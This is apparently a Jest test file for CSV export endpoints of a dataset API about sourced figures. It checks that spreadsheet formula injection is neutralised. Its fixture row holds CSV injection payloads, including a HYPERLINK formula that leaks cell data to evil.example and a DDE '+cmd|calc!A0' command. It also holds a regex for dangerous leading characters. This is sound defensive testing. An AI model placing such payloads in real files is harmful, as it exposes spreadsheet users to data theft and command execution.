// The CSV downloads against a real, seeded PostgreSQL: they parse with a standard CSV parser, hold
// exactly the figures in view with every citation column, carry the permalink and revision on their
// first line, and keep formulas inert.
import { parse } from 'csv-parse/sync';
import { FIGURE_CSV_COLUMNS } from '@/lib/api/csv';
import { getPrisma } from '@/lib/db';
import { importFiles } from '@/lib/importer/import-files';
import { openApiDocument } from '@/lib/openapi/document';
import { getExplorerData } from '@/lib/queries/get-explorer-data';
import { listSeriesBySlugs } from '@/lib/queries/list-series-by-slugs';
import { seedFigureLines, writeTempFile } from '../helpers/csv-files';
import { createTestDatabase, type TestDatabase } from '../helpers/test-database';
import { createContract, ORIGIN } from './api-contract';

let db: TestDatabase;
const { call } = createContract(openApiDocument());

jest.setTimeout(60_000);

type Row = Record<(typeof FIGURE_CSV_COLUMNS)[number], string>;

/** The header of the figures file, and a row whose every text field tries to be a formula. */
const HOSTILE_ROW = [
  'troops-deployed',
  '17000',
  'approx',
  '',
  '',
  '2024-10',
  '2025-12',
  `"=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
  '+cmd|calc!A0',
  '@SUM(1+1)',
  '-2+3 Media',
  '2025-12-02',
  'https://example.org/hostile',
  '"=1+1, said the quote"',
  '@mention in a note',
].join(',');

async function csv(path: string, headers?: Record<string, string>) {
  const result = await call(path, { headers });
  expect({ path, status: result.response.status, body: result.response.status === 200 ? '' : result.text }).toEqual({
    path,
    status: 200,
    body: '',
  });
  expect(result.response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  const [comment] = result.text.split('\r\n');
  const rows: Row[] = parse(result.text, { columns: true, from_line: 2 });
  return { ...result, comment, rows };
}

async function badRequest(path: string): Promise<string> {
  const { response, json } = await call(path);
  expect({ path, status: response.status }).toEqual({ path, status: 400 });
  return (json as { error: { message: string } }).error.message;
}

beforeAll(async () => {
  db = await createTestDatabase({ seeded: true });
  process.env.DATABASE_URL = db.url;
  const header = seedFigureLines()[0];
  expect(header).toBe(
    'series,value,qualifier,value_low,value_high,period_start,period_end,claimant,claimant_org,via,publisher,published_on,url,quote,note',
  );
  const report = await importFiles({
    databaseUrl: db.url,
    figuresFile: writeTempFile([header, HOSTILE_ROW].join('\n')),
    author: 'csv test',
    reason: 'a figure whose texts look like formulas',
  });
  expect(report).toMatchObject({ revision: 2, figuresCreated: 1 });
});

afterAll(async () => {
  await getPrisma().$disconnect();
  await db?.drop();
});

describe('the explorer export', () => {
  const state = 's=troop-casualties,troops-deployed&from=2024-12&to=2025-06';

  it('holds exactly the figures the explorer shows, series in the order of s=', async () => {
    const { rows, comment, response } = await csv(`/api/v1/export.csv?${state}`);
    expect(comment).toBe(`# ${ORIGIN}/explore?${state}&rev=2 (dataset revision 2)`);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="sourced-figures-rev2.csv"');
    expect(response.headers.get('cache-control')).toBe('public, max-age=60, s-maxage=60, stale-while-revalidate=300');

    const series = await listSeriesBySlugs(['troop-casualties', 'troops-deployed']);
    const { figures: inView } = await getExplorerData({
      series,
      range: { from: { date: '2024-12-01', precision: 'month' }, to: { date: '2025-06-01', precision: 'month' } },
      asOfRevision: null,
    });
    expect(inView.length).toBeGreaterThan(2);
    const expected = [...inView.filter((f) => f.seriesSlug === 'troop-casualties'), ...inView.filter((f) => f.seriesSlug === 'troops-deployed')];
    expect(rows.map((r) => [r.series, r.figure_id, r.version, r.value])).toEqual(
      expected.map((f) => [f.seriesSlug, String(f.figureId), String(f.version), f.value]),
    );
    expect(Object.keys(rows[0])).toEqual([...FIGURE_CSV_COLUMNS]);
  });

  it('carries every citation column of a figure', async () => {
    const { rows } = await csv('/api/v1/export.csv?s=troops-deployed');
    expect(rows.find((r) => r.claimant === 'Dorothy Shea')).toEqual({
      series: 'troops-deployed',
      series_title: 'North Korean troops sent to Russia',
      unit: 'troops',
      value: '12000',
      qualifier: 'more_than',
      value_low: '',
      value_high: '',
      period_start: '2024-10',
      period_end: '2025-01',
      claimant: 'Dorothy Shea',
      claimant_org: 'US Government',
      via: '',
      publisher: 'UPI',
      published_on: '2025-01-13',
      title: '',
      url: 'https://www.upi.com/Voices/2025/01/13/North-Korea-300-killed-Ukraine-NIS-Zelensky/2101736756939/',
      quote: expect.any(String),
      note: expect.any(String),
      figure_id: expect.stringMatching(/^\d+$/),
      version: '1',
      revision: '1',
    });
  });

  it('keeps formulas inert while the data stays intact', async () => {
    const { rows, text } = await csv('/api/v1/export.csv?s=troops-deployed');
    const hostile = rows.find((r) => r.url === 'https://example.org/hostile');
    expect(hostile).toMatchObject({
      claimant: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      claimant_org: "'+cmd|calc!A0",
      via: "'@SUM(1+1)",
      publisher: "'-2+3 Media",
      quote: "'=1+1, said the quote",
      note: "'@mention in a note",
      value: '17000',
    });
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
    // Read as a spreadsheet would, with comment lines skipped, the same rows come back.
    expect(parse(text, { columns: true, comment: '#', comment_no_infix: true })).toEqual(rows);
  });

  it('pins the data with rev=, and the file says so', async () => {
    const { rows, comment, response } = await csv('/api/v1/export.csv?s=troops-deployed&rev=1&view=table');
    expect(comment).toBe(`# ${ORIGIN}/explore?s=troops-deployed&view=table&rev=1 (dataset revision 1)`);
    expect(rows.some((r) => r.url === 'https://example.org/hostile')).toBe(false);
    expect(response.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    const etag = response.headers.get('etag') as string;
    const again = await call('/api/v1/export.csv?s=troops-deployed&rev=1&view=table', { headers: { 'If-None-Match': etag } });
    expect(again.response.status).toBe(304);
  });

  it('refuses a view it cannot export, saying why', async () => {
    expect(await badRequest('/api/v1/export.csv')).toMatch(/"s" names no series/);
    expect(await badRequest('/api/v1/export.csv?s=troops-deployed,nope')).toBe('Invalid explorer state: Ignored unknown series "nope".');
    expect(await badRequest('/api/v1/export.csv?s=troops-deployed&from=2025&to=2024')).toMatch(/from 2025 is after to 2024/);
    expect(await badRequest('/api/v1/export.csv?s=troops-deployed&rev=3')).toBe(
      'Invalid query: "rev=3": there is no dataset revision 3 yet; the latest is 2.',
    );
    expect(await badRequest('/api/v1/export.csv?s=troops-deployed&colour=red')).toMatch(/unknown parameter "colour"/);
  });
});

describe('the figures of one series', () => {
  it('downloads every figure with a permalink to the series page pinned to the revision', async () => {
    const { rows, comment, response } = await csv('/api/v1/series/troops-deployed/figures.csv');
    expect(comment).toBe(`# ${ORIGIN}/series/troops-deployed?rev=2 (dataset revision 2)`);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="troops-deployed-rev2.csv"');
    const { json } = await call('/api/v1/series/troops-deployed/figures?limit=1000');
    const figures = (json as { data: { figureId: number }[] }).data;
    expect(rows.map((r) => Number(r.figure_id))).toEqual(figures.map((f) => f.figureId));
  });

  it('gives the same file for ?format=csv', async () => {
    const a = await csv('/api/v1/series/troops-deployed/figures.csv?rev=1');
    const b = await csv('/api/v1/series/troops-deployed/figures?rev=1&format=csv');
    expect(b.text).toBe(a.text);
  });

  it('points a filtered download at itself, pinned', async () => {
    const { comment, rows } = await csv('/api/v1/series/troops-deployed/figures.csv?from=2025');
    expect(comment).toBe(`# ${ORIGIN}/api/v1/series/troops-deployed/figures.csv?from=2025&rev=2 (dataset revision 2)`);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.period_end >= '2025')).toBe(true);
  });

  it('refuses bad parameters and unknown series in the error shape', async () => {
    expect(await badRequest('/api/v1/series/troops-deployed/figures.csv?limit=10')).toMatch(/unknown parameter "limit"/);
    const { response, json } = await call('/api/v1/series/nope/figures.csv');
    expect(response.status).toBe(404);
    expect(json).toEqual({ error: { code: 'not_found', message: 'There is no series "nope"; /api/v1/series lists them.' } });
  });
});
